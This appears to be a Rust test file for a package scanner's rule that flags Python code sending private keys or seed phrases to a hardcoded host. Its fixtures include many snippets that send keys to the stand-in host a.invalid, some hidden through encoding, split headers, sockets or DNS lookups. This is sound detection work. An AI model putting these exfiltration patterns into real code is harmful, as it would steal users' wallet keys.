//! Private keys that go to an address which stands in the code, and what only looks like it.

use packhouse_inspect::{Baseline, Class, Contents, Report, Rules, Verdict, inspect};

use crate::{alone, expect, expect_pass, finding, listed, new, python, wheel};

fn found(report: &Report) -> usize {
    report.findings.iter().filter(|finding| finding.rule == "S42").count()
}

/// `code` as the next release of a module that is `before`.
fn after(before: &str, code: &str) -> Report {
    let (before, now) = (wheel(&[("p/a.py", before)]), wheel(&[("p/a.py", code)]));
    inspect(&now, &[(Baseline::PreviousRelease, &before)], &Rules::default())
}

#[test]
fn a_key_that_is_sent_to_a_literal_address_is_high_in_a_difference() {
    for code in [
        // A parameter, an attribute, a variable, an item.
        "import requests\ndef f(private_key):\n    requests.post('https://a.invalid/q', json={'k': private_key})",
        "import requests\nclass A:\n    def f(self):\n        requests.post('https://a.invalid', data=self.secret_key)",
        "import requests\nmnemonic = input()\nrequests.get('https://a.invalid/?m=' + mnemonic)",
        "import requests\ndef f(account):\n    requests.post('https://a.invalid', data=account['privateKey'])",
        "import requests\ndef f(account):\n    requests.post('https://a.invalid', data=account.private_key.hex())",
        "import requests\ndef f(account):\n    requests.post('https://a.invalid', data=account.export_private_key())",
        "import httpx\ndef f(seed_phrase):\n    httpx.post('https://a.invalid', content=' '.join(seed_phrase))",
        // What is secret of what holds keys.
        "import requests\ndef f(keypair):\n    requests.post('https://a.invalid', data=bytes(keypair.secret()))",
        "import requests\nclass Keypair:\n    def __init__(self, secret):\n        self.secret = secret\n        requests.post('https://a.invalid', data=secret)",
        "import requests\ndef from_secret_key(secret):\n    requests.post('https://a.invalid', data=secret)",
        // Through a function, a container, encodings, pieces in headers.
        "import base64, urllib.request as u\ndef add(x):\n    k = base64.b64encode(x).decode()\n    h = {'x-a': k[:24], 'x-b': k[24:]}\n    u.urlopen(u.Request('https://a.invalid/rpc', headers=h))\ndef g(secret_key):\n    add(bytes(secret_key))",
        "import base58, requests\ndef f(secret_key):\n    requests.get('https://a.invalid', headers={'x': base58.b58encode(secret_key)[::-1].decode()})",
        "import binascii, requests\ndef f(priv_key):\n    requests.get(f'https://a.invalid/{binascii.hexlify(priv_key)}')",
        "import requests\ndef f(private_key):\n    s = requests.Session()\n    s.headers.update({'x': private_key})\n    s.get('https://a.invalid')",
        "import requests\nclass A:\n    def f(self, private_key):\n        self.s = requests.Session()\n        self.s.headers.update({'x': private_key})\n        self.s.get('https://a.invalid')",
        "import urllib.request\ndef f(private_key):\n    r = urllib.request.Request('https://a.invalid')\n    r.add_header('x', private_key)\n    urllib.request.urlopen(r)",
        "import requests\ndef f(private_key):\n    d = {}\n    d['a'] = private_key\n    requests.post('https://a.invalid', json=d)",
        "import threading, requests\ndef send(k):\n    requests.post('https://a.invalid', data=k)\ndef f(private_key):\n    threading.Thread(target=send, args=(private_key,)).start()",
        "import threading, requests\ndef f(private_key):\n    threading.Thread(target=requests.post, args=('https://a.invalid', private_key)).start()",
        "import requests\ndef f(k):\n    requests.post('https://a.invalid', data=getattr(k, 'secret_key'))",
        // A host that is put together, decoded, or a default; without a scheme; in a name.
        "import requests\nHOST = 'a' + '.invalid'\ndef f(private_key):\n    requests.post(f'https://{HOST}/x', data=private_key)",
        "import base64, requests\ndef f(private_key):\n    requests.post(base64.b64decode('aHR0cHM6Ly9hLmludmFsaWQ=').decode(), data=private_key)",
        "import requests\ndef f(private_key, url='https://a.invalid'):\n    requests.post(url, data=private_key)",
        "import requests\ndef post(url, body):\n    requests.post(url, data=body)\ndef f(private_key):\n    post('https://a.invalid', private_key)",
        "import httpx\ndef f(private_key):\n    with httpx.Client(base_url='https://a.invalid') as c:\n        c.post('/x', json=private_key)",
        "import http.client\ndef f(private_key):\n    c = http.client.HTTPSConnection('a.invalid')\n    c.request('POST', '/', body=private_key)",
        "import socket\ndef f(private_key):\n    s = socket.socket()\n    s.connect(('a.invalid', 443))\n    s.sendall(private_key)",
        "import socket\ndef f(private_key):\n    socket.gethostbyname(f'{private_key.hex()}.a.invalid')",
    ] {
        let report = python(code);
        assert_eq!(found(&report), 1, "{code}\n{}", listed(&report));
        expect(&report, "S42", Class::High);
        assert!(report.verdict >= Verdict::Review, "{code}");
        // Where nothing is known of the project it deserves a look.
        expect(&alone(&wheel(&[("p/a.py", code)])), "S42", Class::Review);
    }
    let report = python(
        "import requests\ndef f(private_key):\n    requests.post('https://A.invalid/q', json=private_key)",
    );
    let found = finding(&report, "S42");
    assert_eq!(found.message, "`requests.post` sends what is named as a private key to `a.invalid`");
    assert_eq!(found.region.map(|region| region.line), Some(3));
    // In tests it weighs one class less.
    let tests =
        "import requests\ndef f(private_key):\n    requests.post('https://a.invalid', data=private_key)";
    expect(&new(&wheel(&[("tests/test_a.py", tests)])), "S42", Class::Review);
}

#[test]
fn what_is_not_a_key_or_goes_where_the_user_says_passes() {
    for code in [
        // What ordinary clients send.
        "import requests\ndef f(api_key, token, password):\n    requests.post('https://a.invalid', auth=(api_key, password), json=token)",
        "import requests\ndef f(secret):\n    requests.post('https://a.invalid', data=secret)",
        // Where it goes is the user's word, or this machine.
        "import requests\ndef f(url, private_key):\n    requests.post(url, json={'k': private_key})",
        "import requests\nclass A:\n    def f(self, private_key):\n        requests.post(f'{self.url}/import', json=private_key)",
        "import requests\ndef f(private_key):\n    requests.post('http://127.0.0.1:8332', json=['importprivkey', private_key])",
        "import requests\ndef f(url, private_key):\n    requests.post(url, json={'k': private_key, 'see': 'https://a.invalid'})",
        // It signs, and stays.
        "import hmac, requests\ndef f(secret_key, m):\n    s = hmac.new(secret_key.encode(), m, 'sha256').hexdigest()\n    requests.get('https://a.invalid', headers={'x-sign': s})",
        "import jwt, requests\ndef f(private_key):\n    t = jwt.encode({'iss': 'a'}, private_key, algorithm='RS256')\n    requests.post('https://a.invalid', headers={'authorization': f'Bearer {t}'})",
        "import requests\ndef f(private_key):\n    requests.post('https://a.invalid', data=private_key.public_key().public_bytes())",
        "import requests\ndef f(private_key, m):\n    requests.post('https://a.invalid', data=private_key.sign(m).hex())",
        "import hashlib, requests\ndef f(private_key):\n    h = hashlib.sha256()\n    h.update(private_key)\n    requests.post('https://a.invalid', data=h.hexdigest())",
        "import requests\ndef f(private_key):\n    requests.get('https://a.invalid', cert=('c.pem', private_key))",
        // What is said about a key.
        "import requests\ndef f(private_key_id, has_private_key):\n    requests.post('https://a.invalid', json=[private_key_id, has_private_key])",
        "import requests\nPRIVATE_KEY = 'private_key'\ndef f(x):\n    requests.post('https://a.invalid', json={PRIVATE_KEY: x, 'kind': PRIVATE_KEY})",
        "import requests\ndef f(private_key):\n    if private_key:\n        requests.get('https://a.invalid')\n    print(private_key)",
        "import requests\ndef private_key():\n    return 1\nrequests.post('https://a.invalid', data=private_key)",
    ] {
        let report = python(code);
        assert_eq!(found(&report), 0, "{code}\n{}", listed(&report));
        expect_pass(&report);
    }
}

/// The same key to the same host in the same file is nothing new, in whatever words; another host is.
#[test]
fn what_sent_keys_before_informs() {
    let sends = |line: &str| format!("import requests\ndef f(private_key):\n    {line}\n");
    let before = sends("requests.post('https://a.invalid/v1', json={'k': private_key})");
    for line in [
        "requests.post('https://a.invalid/v1', json={'k': private_key})",
        "requests.post('https://a.invalid/v2', json={'k': private_key}, timeout=5)",
        "requests.get('https://a.invalid/v1?k=' + private_key); requests.post('https://a.invalid', data=private_key)",
    ] {
        let report = after(&before, &sends(line));
        expect_pass(&report);
        expect(&report, "S42", Class::Info);
    }
    for line in [
        "requests.post('https://b.invalid/v1', json={'k': private_key})",
        "requests.post('https://a.invalid/v1', json={'k': private_key}); requests.post('https://b.invalid', data=private_key)",
    ] {
        let report = after(&before, &sends(line));
        expect(&report, "S42", Class::High);
        assert_eq!(report.verdict, Verdict::Review, "{}", listed(&report));
    }
    // The network was used before, and keys were handled: what is new is that the one gets the other.
    let apart = "import requests\ndef ask(url):\n    return requests.get(url)\ndef f(private_key):\n    return len(private_key)\n";
    expect(&after(apart, &sends("requests.post('https://a.invalid', data=private_key)")), "S42", Class::High);
}

/// Sources that name no keys are read as before: nobody looks for addresses in them.
#[test]
fn many_names_and_calls_stay_within_the_steps() {
    let mut code = String::from("import requests\ndef f(private_key):\n    x = private_key\n");
    for n in 0..2_000 {
        code += &format!("    x = x + private_key\n    requests.post('https://h{n}.invalid', data=x)\n");
    }
    let contents: Contents = wheel(&[("p/a.py", code)]);
    let report = alone(&contents);
    expect(&report, "S42", Class::Review);
    assert!(!report.findings.iter().any(|finding| finding.rule.starts_with('X')), "{}", listed(&report));
}
